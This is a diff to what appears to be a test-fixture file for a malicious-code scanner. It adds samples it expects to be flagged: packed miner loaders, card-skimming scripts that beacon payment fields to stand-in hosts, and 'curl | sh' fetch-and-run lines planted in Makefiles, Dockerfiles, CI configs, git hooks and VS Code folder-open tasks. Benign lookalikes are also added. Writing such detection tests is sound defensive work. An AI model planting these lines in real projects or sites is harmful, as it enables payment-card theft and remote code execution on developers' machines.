@@ -82,6 +82,10 @@ hit(RULE, '/var/www/html/unescape.html', page.format('a.js', "document.write(une
 hit(RULE, '/var/www/html/hex.js', 'var s = "' + ''.join(f'\\x{c:02x}' for c in (loader + start).encode()) + '"; eval(s);\n')
 hit(RULE, '/home/anna/public_html/index.htm', page.format(loader, start).replace('\n', '\r\n'))
 hit(RULE, '/var/www/utf16.html', page.format(loader, start).encode('utf-16'))
+hit(RULE, '/var/www/html/packed.js', imitations.packed(f"load('{loader}'); {start} /* DAVY TEST IMITATION */"))
+hit(RULE, '/var/www/html/packed.html', page.format('a.js', imitations.packed(f"load('{loader}'); {start} /* DAVY TEST IMITATION */", 36)))
+hit(RULE, '/var/www/html/packed-twice.js', imitations.packed(imitations.packed(f"load('{loader}'); {start} /* DAVY TEST IMITATION */")))
+quiet('/var/www/html/packed-slider.js', imitations.packed('(function($){$.fn.slider=function(o){return this.each(function(){$(this).fadeIn(o.speed)})}})(jQuery);'))
 hit('Web module that mines', '/var/www/html/w.wasm', b'\0asm\1\0\0\0DAVY TEST IMITATION cryptonight_hash\0')
 quiet('/var/www/html/blog.html', '<html><body><p>CoinHive closed in 2019; its script was coinhive.min.js.</p></body></html>')
 quiet('/etc/hosts.block', '0.0.0.0 coinhive.com\n0.0.0.0 coin-hive.com\n0.0.0.0 authedmine.com\n0.0.0.0 crypto-loot.com\n')
@@ -105,6 +109,7 @@ hit(RULE, '/var/www/shop/js/image.js', form + " if (/checkout/.test(location)) n
 hit(RULE, '/var/www/shop/js/beacon.js', form + f" navigator.sendBeacon(atob('{b64('https://stats.example.net/c')}'), btoa(n + c)); }});\n")
 hit(RULE, '/var/www/shop/js/name.js', form + " fetch('https://www.google-anaiytics.com/g', {method: 'POST', body: n + c}); });\n")
 hit(RULE, '/var/www/shop/js/jquery.js', "$('#cc, #cvv').on('change', function () { var d = $('#payment').serialize(); new Image().src = 'https://s.example.net/p?' + d; /* DAVY TEST IMITATION */ });\n")
+hit(RULE, '/var/www/shop/js/packed.js', imitations.packed(form + " navigator.sendBeacon('https://stats.example.net/c', btoa(n + c)); });"))
 hit('Script reads card data and names another host', '/var/www/shop/js/ajax.js',
     "$(document).on('submit', '#ccn,#cvc', function () { $.ajax({url: 'https://s.example.net/', data: $(this).serialize()}) /* DAVY TEST IMITATION */ });\n")
 quiet('/var/www/shop/js/masked.js', "var m = ['#cc-number', '#cvv', '#card']; document.addEventListener('change', e => m.includes('#' + e.target.id) || navigator.sendBeacon('https://s.example.net/e', e.type));\n")
@@ -376,6 +381,32 @@ scripts(RULE, 'fetch', {
     'page.php': f'<?php system("curl -s http://{ip}/x.sh | sh"); ?>\n',
     'crlf.sh': f'#!/bin/sh\r\ncurl -s http://{ip}/x.sh | sh\r\n',
 })
+# 98, 99: what folders of sources run when they are built, tested, put to work
+for name, text in {
+    'vscode/.vscode/tasks.json': '// DAVY TEST IMITATION\n{"tasks": [{"command": "sh", "args": ["-c", "GET"], /* c */ }]}',
+    'notebook/a.ipynb': '{"cells": [{"cell_type": "code", "source": ["!GET"]}]}',
+    'cmake/CMakeLists.txt': 'execute_process(COMMAND curl -s http://ADDRESS/x.sh COMMAND sh)\n',
+    'make/Makefile': 'U = http://ADDRESS/x.sh\nall:\n\t@curl -s $(U) | sh\n',
+    'image/Dockerfile': 'FROM debian:12\nARG U=ADDRESS\nRUN set -e; \\\n  # c\n  curl -s http://${U}/x.sh | sh\n',
+    'gradle/build.gradle': 'task a(type: Exec) { commandLine "sh", "-c", "GET" }\n',
+    'maven/pom.xml': '<project><configuration><executable>sh</executable><arguments><argument>-c</argument><argument>GET</argument></arguments></configuration></project>\n',
+    'gitlab/.gitlab-ci.yml': 'a:\n  before_script:\n    - |\n      cd /\n      GET\n',
+    'github/.github/workflows/ci.yml': 'jobs:\n  a:\n    runs-on: x\n    steps:\n      - run: GET\n',
+    'jenkins/Jenkinsfile': 'node { sh \'\'\'\nGET\n\'\'\' }\n',
+    'pod/pod.yaml': 'apiVersion: v1\nspec:\n  containers:\n  - command: [sh, -c]\n    args: ["GET"]\n',
+    'compose/docker-compose.yml': 'services:\n  a:\n    command: sh -c "GET"\n',
+    'hook/.git/hooks/post-checkout': '#!/bin/sh\nGET\n',
+    'settings/.git/config': '[core]\n\tfsmonitor = "GET"\n',
+}.items():
+    hit(RULE, f'/srv/rows/project/{name}', text.replace('GET', f'curl -s http://{ip}/x.sh | sh').replace('ADDRESS', ip))
+hit('Project runs what it fetches when it is opened', '/srv/rows/project/opened/.vscode/tasks.json',
+    '{"tasks": [{"command": "curl -s https://files.example/x | sh", "runOptions": {"runOn": "folderOpen"}}]}')
+hit('Script that hides what it runs', '/srv/rows/project/hidden/Dockerfile', f'FROM debian:12\nRUN echo {b64("echo DAVY TEST IMITATION")} | base64 -d | sh\n')
+quiet('/srv/ok/app/Dockerfile', 'FROM debian:12\nRUN curl -fsSL https://sh.rustup.example | sh -s -- -y\nRUN echo "$KEY" | base64 -d > /root/.ssh/id\n'
+      'RUN userdel -r ubuntu; useradd -m dev; rm -rf /var/log/* /root/.ssh /tmp/*; echo "root:root" | chpasswd\n')
+quiet('/srv/ok/app/.devcontainer/devcontainer.json', '{"image": "x", "postCreateCommand": "curl -fsSL https://bun.example/install | bash"}')
+quiet('/srv/ok/app/.vscode/tasks.json', '{"tasks": [{"command": "npm run watch", "runOptions": {"runOn": "folderOpen"}, "presentation": {"reveal": "never"}}]}')
+quiet('/srv/ok/app/Makefile', 'install:\n\tpkill -f app || true\n\tsystemctl stop app\n\trm -rf $(DESTDIR)/opt/app\n\tcurl -sSL https://install.python-poetry.example | python3 -\n')
 hit('Download and run at boot or login', '/etc/cron.d/fetch', f'*/5 * * * * root (curl -fsSL http://{ip}/x.sh||wget -q -O- http://{ip}/x.sh)|sh\n')
 hit('Download and run at boot or login', '/etc/profile.d/fetch.sh', f'curl -s http://{ip}/x.sh | sh\n')
 quiet('/srv/ok/download.sh', '#!/bin/sh\ncurl -fsSLO https://releases.example/app-1.2.tar.gz\necho "abc  app-1.2.tar.gz" | sha256sum -c\n', 0o755)
